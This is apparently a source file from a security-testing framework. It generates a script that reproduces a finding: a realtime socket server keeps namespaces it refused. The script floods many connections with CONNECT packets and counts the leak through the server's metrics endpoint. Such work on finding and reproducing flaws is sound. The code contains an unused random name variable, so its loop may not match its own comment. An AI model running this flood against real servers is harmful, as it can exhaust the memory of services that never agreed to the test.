/** The script of a finding that namespaces which nobody was let into are kept. */
import type { AttackContext } from '../attack.ts'
import { someText, type Written } from '../reproduction/steps.ts'

/** So many names for each of so many connections. The headers that the metrics ask for hold a secret of the operators. */
export function namespacesScript(
  { target, ownNamespace, metrics }: AttackContext<'ownNamespace' | 'metrics'>,
  connections: number,
  each: number,
): Written {
  const { count, perMs } = target.profile.limits.handshakes ?? { count: 1, perMs: 0 }
  const [nsp] = target.fill([ownNamespace], { user: someText })
  return ({ value, door }) =>
    `// METRICS: where they are, if that is elsewhere by now. METRICS_HEADERS: those that they ask for, as JSON
const from = process.env.METRICS ?? ${value(new URL(metrics.url, target.url).href)}
async function namespaces() {
  await ask('GET', from, JSON.parse(process.env.METRICS_HEADERS ?? '{}'))
  const lines = said.split('\\n').filter((line) => /^\\w+/.exec(line)?.[0] === ${value(metrics.namespaces)})
  expect(lines.length > 0, 'the metrics do not tell of namespaces')
  return lines.reduce((sum, line) => sum + Number(line.slice(line.lastIndexOf(' ') + 1)), 0)
}
const before = await namespaces()
for (let i = 0; i < ${connections}; i++) {
  const { manager } = await handshake(${door({ join: false })})
  let answers = 0
  manager.engine.on('data', () => answers++)
  for (let j = 0; j < ${each}; j++) {
    const text = 'gc' + randomBytes(9).toString('hex')
    manager.engine.send('0' + ${value(nsp)} + ',{}')
  }
  await until(() => answers >= ${each}, 'CONNECTs are not answered')
  manager.engine.close()
  await sleep(${Math.ceil((1.1 * perMs) / count)})
}
await sleep(2_000)
const kept = (await namespaces()) - before
expect(kept > ${(connections * each) / 2}, \`of ${connections * each} refused namespaces \${kept} are kept\`)`
}
